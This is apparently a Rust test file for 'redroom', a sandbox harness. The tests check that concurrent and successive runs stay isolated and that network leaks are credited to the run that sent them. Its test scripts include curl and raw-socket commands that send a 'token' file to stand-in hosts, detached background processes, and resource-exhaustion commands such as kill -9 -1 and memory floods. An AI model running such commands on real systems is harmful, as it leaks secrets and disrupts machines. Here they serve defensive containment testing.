//! Runs beside and after each other: none sees anything of another, however it ends.

use std::sync::Arc;

use libtest_mimic::Trial;
use redroom::{Limits, Redroom, Result, RunOptions, Suite};

use crate::{start, trial};

pub(crate) fn trials() -> Vec<Trial> {
    vec![
        trial("side_by_side::two_runs_at_once_see_nothing_of_each_other", || Suite::new().parallel(2), two_at_once),
        trial(
            "side_by_side::the_next_run_in_a_slot_sees_nothing_of_the_last",
            || Suite::new().parallel(1),
            one_after_the_other,
        ),
        trial(
            "side_by_side::what_was_still_on_the_way_belongs_to_the_run_that_sent_it",
            || Suite::new().parallel(1),
            late_requests,
        ),
        trial(
            "side_by_side::a_slot_that_saw_violence_serves_the_next_run",
            || Suite::new().parallel(1),
            after_violence,
        ),
    ]
}

async fn two_at_once(redroom: Arc<Redroom>) -> Result<()> {
    let (one, two) = tokio::join!(start(&redroom, "one"), start(&redroom, "two"));
    let (one, two) = (one?, two?);
    // A server of one's own, on every address and in the abstract namespace, is not the other's.
    let serve = "(python3 -m http.server --bind :: 5000 >/dev/null 2>&1 &)
                 (python3 -c 'import socket,time; s=socket.socket(socket.AF_UNIX); s.bind(\"\\0mine\"); s.listen(); time.sleep(60)' &)
                 for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:5000/ && grep -q @mine /proc/net/unix && echo up && break; sleep 0.1; done";
    assert_eq!(one.send(serve).await?.final_text, "up\n");
    let script = "curl -sS http://page.redroom.test/; echo
                  curl -sS --data-binary @token http://t.redroom.test/$(cut -c1-3 token) -o /dev/null
                  cat /proc/net/unix | grep -c @mine
                  curl -s -o /dev/null http://[2001:db8:5::10]:5000/; echo $?";
    let (first, second) = tokio::join!(one.send(script), two.send(script));
    assert_eq!(first?.final_text, "page of one\n1\n0\n");
    assert_eq!(second?.final_text, "page of two\n0\n7\n");
    let (one, two) = tokio::join!(one.finish(), two.finish());
    for (result, own, other) in [(one?, "/one", "/two"), (two?, "/two", "/one")] {
        assert!(result.hits.iter().any(|hit| hit.path == own), "{:?}", result.hits);
        assert!(!result.hits.iter().any(|hit| hit.path == other), "{:?}", result.hits);
        assert_eq!((result.leaks().len(), result.errors.as_slice()), (1, &[][..]));
    }
    assert!(redroom.unattributed_hits().is_empty());
    Ok(())
}

async fn one_after_the_other(redroom: Arc<Redroom>) -> Result<()> {
    let one = start(&redroom, "one").await?;
    one.send(
        "(setsid bash -c 'while true; do curl -s -o /dev/null http://late.redroom.test/one; done' >/dev/null 2>&1 &)
         echo left > /tmp/left; curl -sS -o /dev/null http://page.redroom.test/",
    )
    .await?;
    let first = one.finish().await?;
    let two = redroom.start_run(RunOptions::new().name("two")).await?;
    let turn = two
        .send("ls -A /tmp; pgrep -c curl; ss -Htan | grep -vc -e LISTEN -e TIME-WAIT; curl -sS -w '%{http_code}' http://page.redroom.test/ -o /dev/null")
        .await?;
    assert_eq!(turn.final_text, "0\n0\n404", "{}", turn.stderr);
    let second = two.finish().await?;
    assert!(first.hits.iter().any(|hit| hit.path == "/one"));
    assert!(second.hits.iter().all(|hit| hit.host == "page.redroom.test"), "{:?}", second.hits);
    assert!(redroom.unattributed_hits().is_empty(), "{:?}", redroom.unattributed_hits());
    Ok(())
}

async fn late_requests(redroom: Arc<Redroom>) -> Result<()> {
    let one = start(&redroom, "one").await?;
    // More connections than the sidecar takes at a time: the request of the last one waits in the kernel.
    let leave = r#"
import os, socket, time
token = open("token", "rb").read()
head = b"POST /open HTTP/1.1\r\nHost: late.redroom.test\r\nContent-Length: 1000000\r\n\r\n"
first = socket.create_connection(("1.1.1.1", 80)); first.sendall(head + token)
idle = [socket.create_connection(("1.1.1.1", 80)) for _ in range(600)]
last = socket.create_connection(("1.1.1.1", 80))
last.sendall(b"POST /waiting HTTP/1.1\r\nHost: late.redroom.test\r\nContent-Length: %d\r\n\r\n" % len(token) + token)
print("left", flush=True)
if os.fork() == 0:
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in range(3): os.dup2(null, fd)
    time.sleep(600)
os._exit(0)
"#;
    let turn = one.send(format!("python3 - <<'END'{leave}END")).await?;
    assert_eq!(turn.final_text, "left\n", "{}", turn.stderr);
    let first = one.finish().await?;
    for path in ["/open", "/waiting"] {
        let hit = first.hits.iter().find(|hit| hit.path == path);
        let hit = hit.unwrap_or_else(|| panic!("{path} is not among {} hits", first.hits.len()));
        assert!(!hit.secrets.is_empty(), "{hit:?}");
    }
    let two = start(&redroom, "two").await?;
    two.send("curl -sS -o /dev/null http://page.redroom.test/").await?;
    let second = two.finish().await?;
    assert!(second.hits.iter().all(|hit| hit.host == "page.redroom.test"), "{:?}", second.hits);
    assert_eq!((second.leaks().len(), second.errors.as_slice()), (0, &[][..]));
    assert!(redroom.unattributed_hits().is_empty(), "{:?}", redroom.unattributed_hits());
    Ok(())
}

async fn after_violence(redroom: Arc<Redroom>) -> Result<()> {
    let violence = [
        "python3 -c 'bytearray(1 << 30)'",
        "python3 -c \"import os\nfds=[]\nwhile True: fds.append(os.memfd_create('x')); os.write(fds[-1], bytes(1 << 20))\"",
        "(for i in $(seq 90); do setsid sleep 600 & done) 2>/dev/null; bash -c 'kill -9 -1'",
        "for i in $(seq 300); do curl -s -o /dev/null http://t.redroom.test/$i & done; wait",
        "head -c 70000000 /dev/zero",
    ];
    for script in violence {
        let limits = Limits::new().memory("128m").pids(400);
        let run = redroom.start_run(RunOptions::new().name("violent").limits(limits)).await?;
        let _ = run.send(script).await;
        run.finish().await?;
        let run = start(&redroom, "quiet").await?;
        let turn = run.send("curl -sS http://page.redroom.test/; ls -A /tmp").await?;
        assert_eq!(turn.final_text, "page of quiet", "after {script}: {}", turn.stderr);
        let result = run.finish().await?;
        assert_eq!(result.errors, [], "after {script}");
        assert!(result.hits.iter().all(|hit| hit.host == "page.redroom.test"), "after {script}: {:?}", result.hits);
    }
    Ok(())
}
